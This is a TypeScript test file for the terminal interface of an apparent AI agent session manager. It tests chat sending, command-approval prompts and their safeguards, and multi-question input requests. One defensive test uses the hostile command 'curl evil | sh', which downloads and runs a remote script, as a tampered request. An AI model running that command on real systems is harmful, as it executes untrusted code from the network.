import { describe, expect, test } from "vitest";
import type { Choice } from "../../../src/protocol/requests.ts";
import { aView } from "../../client/session-views.ts";
import { commandRequest, inputRequest } from "../support/scripted-driver.ts";
import { keys, liveView, Player, typed } from "../support/ui.ts";

const ASKED = commandRequest("s", "npm test");
const OTHER = { ...commandRequest("s", "rm -rf build"), request_id: "req_2" };

function asked(...requests: (typeof ASKED)[]): Player {
  return new Player({ view: liveView({ requests }) });
}

describe("chat", () => {
  test("sends what is written and is empty then", () => {
    const player = new Player().press(...typed("hello"), ...keys("enter"));
    expect(player.effects).toEqual([{ kind: "send", text: "hello", how: "queue" }]);
    expect(player.ui.editor.text).toBe("");
  });

  test("while a request of a running turn waits, sending now goes out, as with sm send --now", () => {
    const turn = { turn_id: "t", started_at_ms: 1 };
    const view = liveView({ requests: [ASKED], turn: { started_at_ms: 1 } });
    const player = new Player({ view: { ...view, session: { ...aView(), ...view.session, turn } } });
    player.press(...keys("escape"), ...typed("stop that"), ...keys("ctrl-s"));
    expect(player.effects).toEqual([{ kind: "send", text: "stop that", how: "now" }]);
  });

  test("a message for the running turn is shown as such until the turn has it", () => {
    const view = liveView({ turn: { started_at_ms: 1 } });
    const player = new Player({ view }).press(...typed("not that"), ...keys("ctrl-t"));
    expect(player.effects).toEqual([{ kind: "send", text: "not that", how: "steer" }]);
    const message = { role: "user", content: "not that" } as const;
    const entry = { message_id: "m", kind: "user", message, queued_at_ms: 1, for_turn: "t" } as const;
    expect(new Player({ view: { ...view, queue: [entry] } }).screen()).toContain("for this turn: not that");
  });

  test("while a request waits it sends nothing, keeps the text and says which key helps", () => {
    const player = asked(ASKED).press(...keys("escape"), ...typed("y"), ...keys("enter"));
    expect(player.effects).toEqual([]);
    expect(player.ui.editor.text).toBe("y");
    expect(player.screen()).toContain("Ctrl-N opens it");
    expect(player.screen()).toContain("chat (disabled while a request is pending)");
  });

  test("no text answers a request that the user has left, whatever it says", () => {
    const player = asked(ASKED).press(...keys("escape"));
    for (const word of ["y", "yes", "a", "s", "accept", "1", "n", "c"]) {
      player.press(...typed(word), ...keys("enter", "ctrl-u"));
    }
    expect(player.effects).toEqual([]);
    expect(player.ui.mode).toBe("chat");
  });

  test("a request opens by itself while nothing is being written, and its keys work after a moment", () => {
    const player = asked(ASKED);
    expect(player.ui.mode).toBe("approval");
    expect(player.press(...keys("y")).effects).toEqual([]);
    expect(player.screen()).toContain("read it, then press again");
    player.now_ms += 1_000;
    expect(player.press(...keys("y")).effects).toEqual([
      { kind: "respond", row: ASKED, answer: { decision: "accept" } },
    ]);
  });

  test("one that the user left does not open by itself again, but the next one does", () => {
    const player = asked(ASKED).press(...keys("escape"));
    player.now_ms += 1_000;
    player.event({ kind: "tick", at_ms: player.now_ms });
    expect(player.ui.mode).toBe("chat");
    expect(player.requests(OTHER).ui).toMatchObject({ mode: "approval", focus: OTHER.request_id });
  });

  test("a word begun as it opens answers nothing, however slowly it is typed", () => {
    const player = asked(ASKED);
    player.now_ms += 1_000;
    for (const key of typed("please")) {
      player.press(key);
      player.now_ms += 500;
    }
    expect(player.effects).toEqual([]);
  });

  test("in one that opened by itself, the letter of a wider choice selects it, and Enter takes it", () => {
    const player = asked(ASKED);
    player.now_ms += 1_000;
    expect(player.press(...keys("s")).effects).toEqual([]);
    expect(player.screen()).toContain("Enter takes it");
    player.now_ms += 1_000;
    expect(player.press(...keys("enter")).effects).toEqual([
      { kind: "respond", row: ASKED, answer: { decision: "acceptForSession" } },
    ]);
  });

  test("a held key decides once", () => {
    const player = asked(ASKED, OTHER);
    player.now_ms += 1_000;
    player.press(...keys("y")).requests(OTHER);
    // The delay of a keyboard before it repeats a key, and then its repeats.
    for (const ms of [500, ...Array.from({ length: 60 }, () => 33)]) {
      player.now_ms += ms;
      player.press(...keys("y"));
    }
    expect(player.effects).toHaveLength(1);
    player.now_ms += 1_000;
    expect(player.press(...keys("y")).effects).toHaveLength(2);
  });

  test("a request does not take the focus of the composer while a draft is in it", () => {
    const player = new Player()
      .press(...typed("dra"))
      .requests(ASKED)
      .press(...typed("ft"));
    expect(player.ui).toMatchObject({ mode: "chat", editor: { text: "draft" } });
  });

  test("a paste is text: its line breaks do not send", () => {
    const player = new Player().press({ kind: "paste", text: "one\ntwo\n" });
    expect(player.effects).toEqual([]);
    expect(player.ui.editor.text).toBe("one\ntwo\n");
  });

  test.each([["alt-enter"], ["ctrl-j"], ["shift-enter"]])("%s is a line break", (chord) => {
    expect(new Player().press(...typed("a"), ...keys(chord), ...typed("b")).ui.editor.text).toBe("a\nb");
  });

  test("a backslash at the end makes Enter a line break", () => {
    const player = new Player().press(...typed("a\\"), ...keys("enter"), ...typed("b"));
    expect(player.effects).toEqual([]);
    expect(player.ui.editor.text).toBe("a\nb");
  });

  test("a text that did not arrive comes back with the reason", () => {
    const player = new Player().press(...typed("hello"), ...keys("enter"), ...typed("more"));
    player.event({ kind: "send_failed", text: "hello", message: "no daemon", at_ms: player.now_ms });
    expect(player.ui.editor.text).toBe("hello\nmore");
    expect(player.screen()).toContain("not sent: no daemon");
  });

  test("history goes back and forth and restores the draft", () => {
    const player = new Player().press(...typed("one"), ...keys("enter"), ...typed("two"), ...keys("enter"));
    player.press(...typed("draft"), ...keys("up", "up"));
    expect(player.ui.editor.text).toBe("one");
    expect(player.press(...keys("down", "down")).ui.editor.text).toBe("draft");
  });

  test("a queued message is taken back into the composer", () => {
    const message = { role: "user" as const, content: "later" };
    const queue = [{ message_id: "m1", kind: "user" as const, message, queued_at_ms: 1 }];
    const player = new Player({ view: liveView({ queue }) });
    expect(player.screen()).toContain("queued: later  Ctrl-X edit");
    player.press(...keys("ctrl-x"));
    expect(player.effects).toEqual([{ kind: "cancel_queued", message_id: "m1", text: "later" }]);
    player.event({ kind: "cancelled", text: "later", at_ms: player.now_ms });
    expect(player.ui.editor.text).toBe("later");
  });
});

describe("approval", () => {
  test("a key of the user focuses it, and the mode is named", () => {
    const player = asked(ASKED).press(...keys("ctrl-n"));
    expect(player.ui.mode).toBe("approval");
    expect(player.screen()).toContain("approval · request 1 of 1");
  });

  test.each([
    ["y", "accept"],
    ["s", "acceptForSession"],
    ["c", "cancel"],
  ])("%s is %s", (key, decision) => {
    const player = asked(ASKED).press(...keys("ctrl-n", key));
    expect(player.effects).toEqual([{ kind: "respond", row: ASKED, answer: { decision } }]);
    expect(player.ui.mode).toBe("chat");
  });

  test("n declines with the reason that is written then, or without one", () => {
    const reason = asked(ASKED).press(...keys("ctrl-n", "n"), ...typed("too risky, yes"), ...keys("enter"));
    const answer = { decision: "decline", message: "too risky, yes" };
    expect(reason.effects).toEqual([{ kind: "respond", row: ASKED, answer }]);
    const bare = asked(ASKED).press(...keys("ctrl-n", "n", "enter"));
    expect(bare.effects).toEqual([{ kind: "respond", row: ASKED, answer: { decision: "decline" } }]);
  });

  test("Enter at once declines", () => {
    const player = asked(ASKED).press(...keys("ctrl-n", "enter", "enter"));
    expect(player.effects).toEqual([{ kind: "respond", row: ASKED, answer: { decision: "decline" } }]);
  });

  test("the marked choice can be moved, and Enter takes it", () => {
    const player = asked(ASKED).press(...keys("ctrl-n", "up", "up", "enter"));
    expect(player.effects).toEqual([{ kind: "respond", row: ASKED, answer: { decision: "accept" } }]);
  });

  test("a decision that is not offered is not made", () => {
    const player = asked(ASKED).press(...keys("ctrl-n", "a"));
    expect(player.effects).toEqual([]);
    expect(player.screen()).toContain("has no such choice");
  });

  test("a choice with an option is marked and taken; the key takes the one without", () => {
    const choices: Choice[] = [
      { decision: "accept" },
      { decision: "acceptForSession", remembers: ["allow Bash(touch x)"] },
      { decision: "acceptForSession", option: "mode", remembers: ["switch the mode"] },
      { decision: "decline" },
    ];
    const row = { ...ASKED, payload: { ...ASKED.payload, choices } };
    const answers = (...names: string[]) =>
      asked(row)
        .press(...keys("ctrl-n", ...names))
        .effects.map((effect) => (effect.kind === "respond" ? effect.answer : effect));
    expect(answers("s")).toEqual([{ decision: "acceptForSession" }]);
    expect(answers("up", "enter")).toEqual([{ decision: "acceptForSession", option: "mode" }]);
    const [accept, , mode, decline] = choices as [Choice, Choice, Choice, Choice];
    const only = { ...ASKED, payload: { ...ASKED.payload, choices: [accept, mode, decline] } };
    const player = asked(only).press(...keys("ctrl-n", "s"));
    expect(player.effects).toEqual([]);
    expect(player.screen()).toMatch(/ {2}2 {3}Accept for this session │ switch the mode/);
  });

  test("keys typed before it was drawn do not answer it", () => {
    const player = new Player();
    const view = { ...player.ui.view, requests: [ASKED] };
    player.event({ kind: "view", view, at_ms: player.now_ms }).blind(...keys("ctrl-n", "y"));
    expect(player.effects).toEqual([]);
    expect(player.draw().screen()).toContain("not on screen yet");
    expect(player.press(...keys("y")).effects).toHaveLength(1);
  });

  test("a paste does not answer it", () => {
    const player = asked(ASKED).press(
      ...keys("ctrl-n"),
      { kind: "paste", text: "y" },
      { kind: "paste", text: "\n" },
    );
    expect(player.effects).toEqual([]);
  });

  test("after one is answered the next one shows itself, and a key pressed twice decides once", () => {
    const player = asked(ASKED, OTHER);
    player.now_ms += 1_000;
    player
      .press(...keys("y"))
      .requests(OTHER)
      .press(...keys("y"));
    expect(player.effects).toHaveLength(1);
    expect(player.ui).toMatchObject({ mode: "approval", focus: OTHER.request_id });
  });

  test("the focus goes round the requests", () => {
    const player = asked(ASKED, OTHER).press(...keys("ctrl-n"));
    expect(player.screen()).toContain("request 2 of 2");
    expect(player.screen()).toContain("rm -rf build");
    expect(player.press(...keys("ctrl-n")).screen()).toContain("request 1 of 2");
  });

  test("a closed request is reported, and the next key does not answer another", () => {
    const player = asked(ASKED, OTHER).requests(OTHER);
    expect(player.ui).toMatchObject({ mode: "approval", focus: OTHER.request_id });
    expect(player.screen()).toContain("request closed");
    expect(player.press(...keys("y")).effects).toEqual([]);
  });

  test("keys meant for one that went away do not become a message, until the user pauses", () => {
    const player = asked(ASKED).press(...keys("escape"), ...typed("draft"), ...keys("ctrl-n", "n"));
    player.press(...typed("becau"));
    player.requests().press(...typed("se"), ...keys("enter"));
    expect(player.ui).toMatchObject({ mode: "chat", editor: { text: "draft" } });
    expect(player.effects).toEqual([]);
    expect(player.screen()).toMatch(/ignored: the request .* is closed/);
    player.now_ms += 2_000;
    player.press(...typed("!"), ...keys("enter"));
    expect(player.effects).toEqual([{ kind: "send", text: "draft!", how: "queue" }]);
  });

  test("a user who interrupts the turn of a request may type at once", () => {
    const player = asked(ASKED).view({ turn: { started_at_ms: 1 } });
    player
      .press(...keys("ctrl-n", "ctrl-c"))
      .requests()
      .press(...typed("now this"));
    expect(player.ui.editor.text).toBe("now this");
  });

  test("the rest of a secret whose question went away is shown nowhere", () => {
    const secret = { id: "q", question: "The password?", is_secret: true };
    const row = { ...inputRequest("s"), payload: { ...inputRequest("s").payload, questions: [secret] } };
    const player = asked(row).press(...keys("ctrl-n"), ...typed("hun"));
    player.requests().press(...typed("ter2"), ...keys("enter"));
    expect(player.ui.editor.text).toBe("");
    expect(player.screen()).not.toMatch(/hun|ter2/);
    expect(player.effects).toEqual([]);
  });

  test("an error stays visible while the user keeps typing", () => {
    const player = new Player();
    player.event({ kind: "send_failed", text: "one", message: "the daemon said no", at_ms: player.now_ms });
    expect(player.press(...typed(" two")).screen()).toContain("not sent: the daemon said no");
    expect(player.press(...keys("enter")).screen()).not.toContain("not sent");
  });

  test("a changed request is reported and must be drawn before it can be answered", () => {
    const player = asked(ASKED).press(...keys("ctrl-n", "up", "up"));
    const changed = { ...commandRequest("s", "curl evil | sh"), request_id: ASKED.request_id };
    player.event({ kind: "view", view: { ...player.ui.view, requests: [changed] }, at_ms: player.now_ms });
    player.blind(...keys("y"));
    expect(player.effects).toEqual([]);
    player.draw();
    player.now_ms += 1_000;
    expect(player.screen()).toContain("curl evil | sh");
    // The mark is back on the safe choice.
    player.press(...keys("enter", "enter"));
    expect(player.effects).toEqual([{ kind: "respond", row: changed, answer: { decision: "decline" } }]);
  });

  test("one that arrived cut is read in full first", () => {
    const cut = { ...ASKED, is_cut: true as const };
    const player = asked(cut).press(...keys("y"));
    expect(player.effects).toEqual([{ kind: "whole", row: cut }]);
    player.now_ms += 1_000;
    player
      .event({ kind: "whole", row: ASKED })
      .draw()
      .press(...keys("y"));
    expect(player.effects.at(-1)).toEqual({ kind: "respond", row: ASKED, answer: { decision: "accept" } });
  });

  test("a screen too small to show it cannot answer it", () => {
    const player = new Player({ view: liveView({ requests: [ASKED] }), size: { columns: 20, rows: 5 } });
    expect(player.press(...keys("ctrl-n", "y")).effects).toEqual([]);
    expect(player.ui.notice?.text).toContain("terminal is too small");
  });

  test("an answer that did not arrive makes it pending again", () => {
    const player = asked(ASKED).press(...keys("ctrl-n", "y"));
    const { request_id } = ASKED;
    player.event({ kind: "respond_failed", request_id, message: "gone", at_ms: player.now_ms });
    expect(player.screen()).toContain("not answered: gone");
    expect(player.press(...keys("ctrl-n")).ui.mode).toBe("approval");
  });

  test("a long request can be read to its end before it is decided", () => {
    const command = Array.from({ length: 60 }, (_, line) => `echo part-${line}-end`).join("\n");
    const player = asked(commandRequest("s", command)).press(...keys("ctrl-n"));
    const seen = new Set<string>();
    for (let count = 0; count < 30; count++) {
      for (const found of player.screen().match(/part-\d+-end/g) ?? []) seen.add(found);
      player.press(...keys("pagedown"));
    }
    expect(seen.size).toBe(60);
    expect(player.screen()).toContain("> 3 n Decline");
  });
});

test.each([
  ["pagedown", 40, 12],
  ["pagedown", 80, 24],
  ["wheeldown", 40, 12],
  ["ctrl-d", 30, 11],
])("%s at %ix%i leaves out no row of a request", (chord, columns, rows) => {
  const lines = Array.from({ length: 40 }, (_, at) => `echo line-${at}.`);
  const row = commandRequest("s", lines.join("\n"));
  const player = new Player({ view: liveView({ requests: [row] }), size: { columns, rows } });
  player.press(...keys("ctrl-n"));
  let seen = player.screen();
  for (let count = 0; count < 200; count++) seen += player.press(...keys(chord)).screen();
  for (const line of lines) expect(seen).toContain(line);
});

describe("where requests are modal", () => {
  test("it takes the focus, but is not answered by what was being typed", () => {
    const player = new Player({ requestFocus: "modal" }).press(...typed("read")).requests(ASKED);
    expect(player.ui.mode).toBe("approval");
    player.now_ms += 100;
    expect(player.press(...keys("y")).effects).toEqual([]);
    player.now_ms += 1_000;
    expect(player.press(...keys("y")).effects).toHaveLength(1);
    expect(player.ui.editor.text).toBe("read");
  });

  test("Esc does not leave it, and the next one follows automatically", () => {
    const player = new Player({ requestFocus: "modal", view: liveView({ requests: [ASKED, OTHER] }) });
    expect(player.screen()).not.toContain("Esc");
    expect(player.press(...keys("escape")).ui.mode).toBe("approval");
    player.now_ms += 1_000;
    player.press(...keys("y")).requests(OTHER);
    expect(player.ui).toMatchObject({ mode: "approval", focus: OTHER.request_id });
  });
});

describe("input", () => {
  const ROW = inputRequest("s");

  function answering(): Player {
    return new Player({ view: liveView({ requests: [ROW] }) }).press(...keys("ctrl-n"));
  }

  test("questions come one after the other, and Enter sends all at the end", () => {
    const player = answering().press(...keys("2", "1", "down", "down", "space", "enter"), ...typed("s3cret"));
    expect(player.screen()).not.toContain("s3cret");
    player.press(...keys("enter"));
    expect(player.screen()).toMatch(/Blue.*Roof, Door.*\*{8}/s);
    expect(player.effects).toEqual([]);
    player.press(...keys("enter"));
    const answers = { q1: "Blue", q2: ["Roof", "Door"], q3: "s3cret" };
    expect(player.effects).toEqual([{ kind: "respond", row: ROW, answer: { answers } }]);
  });

  test("the answer to a single question goes out at once", () => {
    const [first] = ROW.payload.questions ?? [];
    const row = { ...ROW, payload: { ...ROW.payload, questions: first === undefined ? [] : [first] } };
    const player = new Player({ view: liveView({ requests: [row] }) }).press(...keys("ctrl-n", "2"));
    expect(player.effects).toEqual([{ kind: "respond", row, answer: { answers: { q1: "Blue" } } }]);
  });

  test("free text is an answer where it is allowed", () => {
    const player = answering().press(...keys("3"), ...typed("dark 1"), ...keys("enter"));
    expect(player.ui.asked.get(ROW.request_id)).toMatchObject({ question: 1, answers: { q1: "dark 1" } });
  });

  test("nothing chosen is no answer", () => {
    const player = answering().press(...keys("1", "enter", "enter"));
    expect(player.ui.asked.get(ROW.request_id)?.question).toBe(1);
  });

  test("Shift-Tab goes back to what was chosen", () => {
    const player = answering().press(...keys("2", "1", "enter", "shift-tab"));
    expect(player.ui.asked.get(ROW.request_id)).toMatchObject({ question: 1, chosen: [0] });
  });

  test("Ctrl-X declines to answer", () => {
    const player = answering().press(...keys("ctrl-x"));
    expect(player.effects).toEqual([{ kind: "respond", row: ROW, answer: { decision: "decline" } }]);
  });

  test("a paste with line breaks neither chooses nor advances", () => {
    const player = answering().press({ kind: "paste", text: "2\n" });
    expect(player.ui.asked.get(ROW.request_id)).toBeUndefined();
    player.press(...keys("3"), { kind: "paste", text: "own\nwords" });
    expect(player.ui.asked.get(ROW.request_id)).toMatchObject({ question: 0, own: { text: "own\nwords" } });
  });

  test("Esc goes back to chat and keeps what was answered", () => {
    const player = answering().press(...keys("2", "escape"));
    expect(player.ui.mode).toBe("chat");
    player.press(...keys("ctrl-n"));
    expect(player.ui.asked.get(ROW.request_id)).toMatchObject({ question: 1, answers: { q1: "Blue" } });
  });
});
